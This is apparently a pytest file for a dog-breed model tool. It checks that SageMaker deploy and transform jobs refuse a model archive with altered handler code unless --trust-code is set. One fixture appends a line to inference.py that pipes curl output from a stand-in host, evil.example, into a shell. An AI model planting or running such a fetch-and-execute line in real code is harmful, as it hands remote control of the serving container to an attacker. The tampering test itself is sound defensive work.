"""`deploy --model model.tar.gz` (and `transform --model`) on SageMaker vouches for the archive's
code as the local backend does (#15 item 9): its code/inference.py runs in the container of the
endpoint or transform job, with its role, so an archive whose code/ is not this dogbreed's
handler is refused before any request (no upload, no CreateModel) unless --trust-code is
given. On moto, every request recorded."""

from __future__ import annotations

import tarfile
from datetime import datetime, timezone
from pathlib import Path

import pytest

from dogbreed.backends.base import DeployRequest
from dogbreed.errors import DogbreedError
from dogbreed.serving.handler_code import UntrustedCodeError
from dogbreed.workflows.transform import transform
from tests.backends.sagemaker.conftest import BUCKET, make_backend, record_calls, sm_config
from tests.serving.model_factory import copy_code

EXPIRES = datetime(2030, 1, 1, tzinfo=timezone.utc)


def _archive(tmp_path: Path, name: str, tamper=None) -> Path:
    """A model.tar.gz as train.py packs it (code/ = this dogbreed's handler), then tampered with."""
    model = tmp_path / f"{name}-dir"
    copy_code(model)
    (model / "model.pth").write_bytes(b"weights")
    (model / "classes.json").write_text("{}")
    (model / "hyperparameters.json").write_text("{}")
    if tamper:
        tamper(model)
    target = tmp_path / f"{name}.tar.gz"
    with tarfile.open(target, "w:gz") as archive:
        for path in sorted(model.rglob("*")):
            archive.add(path, arcname=str(path.relative_to(model)), recursive=False)
    return target


def _appended(model: Path) -> None:
    with open(model / "code" / "inference.py", "a") as handler:
        handler.write("\nimport os; os.system('curl evil.example | sh')\n")


def _deploy(tmp_path, model: Path, trust_code: bool = False):
    config = sm_config(tmp_path)
    backend = make_backend(config)
    sagemaker_calls, s3_calls = record_calls(backend.aws, "sagemaker"), record_calls(backend.aws, "s3")
    request = DeployRequest("dogbreed", str(model), config, EXPIRES, trust_code=trust_code)
    return backend, request, sagemaker_calls, s3_calls


def test_a_tampered_archive_is_refused_before_any_request(tmp_path, s3, sagemaker_client):
    model = _archive(tmp_path, "tampered", _appended)
    backend, request, sagemaker_calls, s3_calls = _deploy(tmp_path, model)

    with pytest.raises(UntrustedCodeError) as refused:
        backend.deploy(request)
    message = str(refused.value)
    assert "code/inference.py differs from this dogbreed's" in message and "--trust-code" in message
    assert sagemaker_calls == [] and s3_calls == []  # no CreateModel, and nothing uploaded
    assert sagemaker_client.list_models()["Models"] == []
    assert s3.list_objects_v2(Bucket=BUCKET).get("KeyCount", 0) == 0


def test_trust_code_deploys_it_and_says_so(tmp_path, s3, sagemaker_client):
    model = _archive(tmp_path, "tampered", _appended)
    backend, request, _, _ = _deploy(tmp_path, model, trust_code=True)
    backend.deploy(request)
    assert "CreateModel" in backend.last_requests and len(sagemaker_client.list_models()["Models"]) == 1
    assert any(
        line.startswith("warning: --trust-code: deploying") and "inference.py differs" in line for line in backend.reporter.lines
    )


def test_our_own_archive_deploys_without_trust_code(tmp_path, s3, sagemaker_client):
    backend, request, _, _ = _deploy(tmp_path, _archive(tmp_path, "ours"))
    backend.deploy(request)
    assert "CreateModel" in backend.last_requests
    assert not any("--trust-code" in line for line in backend.reporter.lines)


@pytest.mark.parametrize(
    ("tamper", "named"),
    [
        (lambda m: (m / "code" / "extra.py").write_text("print(1)\n"), "code/extra.py is not part of dogbreed's handler"),
        (lambda m: (m / "code" / "breedkit" / "presets.py").unlink(), "code/breedkit/presets.py is missing"),
        (lambda m: (m / "code" / "breedkit" / "x.py").symlink_to("/etc/hostname"), "code/breedkit/x.py is a link"),
    ],
    ids=["added", "missing", "link"],
)
def test_every_kind_of_difference_is_named(tmp_path, s3, tamper, named):
    backend, request, _, _ = _deploy(tmp_path, _archive(tmp_path, "other", tamper))
    with pytest.raises(UntrustedCodeError, match=named):
        backend.deploy(request)


def test_a_file_that_is_no_archive_is_one_error_line(tmp_path, s3):
    junk = tmp_path / "model.tar.gz"
    junk.write_bytes(b"not a tarball")
    backend, request, _, s3_calls = _deploy(tmp_path, junk, trust_code=True)
    with pytest.raises(DogbreedError, match=r"is not a readable model.tar.gz"):
        backend.deploy(request)
    assert s3_calls == []


@pytest.mark.parametrize("keep", [0.5, -20], ids=["half", "all-but-the-gzip-trailer"])
def test_a_truncated_archive_is_one_error_line_before_any_request(tmp_path, s3, keep):
    # tarfile's stream mode took a file cut short after its last member for a whole one (and
    # it was uploaded), one cut inside a member for "not a readable model.tar.gz".
    whole = _archive(tmp_path, "whole").read_bytes()
    cut = tmp_path / "model.tar.gz"
    cut.write_bytes(whole[: int(len(whole) * keep)] if keep > 0 else whole[:keep])
    backend, request, sagemaker_calls, s3_calls = _deploy(tmp_path, cut, trust_code=True)
    with pytest.raises(
        DogbreedError, match=r"model .*model.tar.gz: the archive is truncated or corrupt \((EOFError|BadGzipFile)"
    ):
        backend.deploy(request)
    assert s3_calls == [] and sagemaker_calls == []


def test_a_transform_job_holds_a_local_archive_to_the_same_check(tmp_path, s3, sagemaker_client, predict_dir):
    model = _archive(tmp_path, "tampered", _appended)
    backend, _, sagemaker_calls, s3_calls = _deploy(tmp_path, model)
    ledger = backend.workspace.ledger
    photo = str(predict_dir / "Beagle_01141.jpg")
    with pytest.raises(UntrustedCodeError, match=r"code/inference.py differs from this dogbreed's.*--trust-code"):
        transform(backend.config, backend, ledger, [photo], tmp_path / "s.csv", model=str(model), name="t-refused")
    assert [op for op, _ in sagemaker_calls if op != "DescribeTransformJob"] == [] and s3_calls == []
    assert sagemaker_client.list_transform_jobs()["TransformJobSummaries"] == []

    transform(backend.config, backend, ledger, [photo], tmp_path / "s.csv", model=str(model), name="t-trusted", trust_code=True)
    assert {"CreateModel", "CreateTransformJob"} <= set(backend.last_requests)
    assert any(line.startswith("warning: --trust-code: scoring with") for line in backend.reporter.lines)
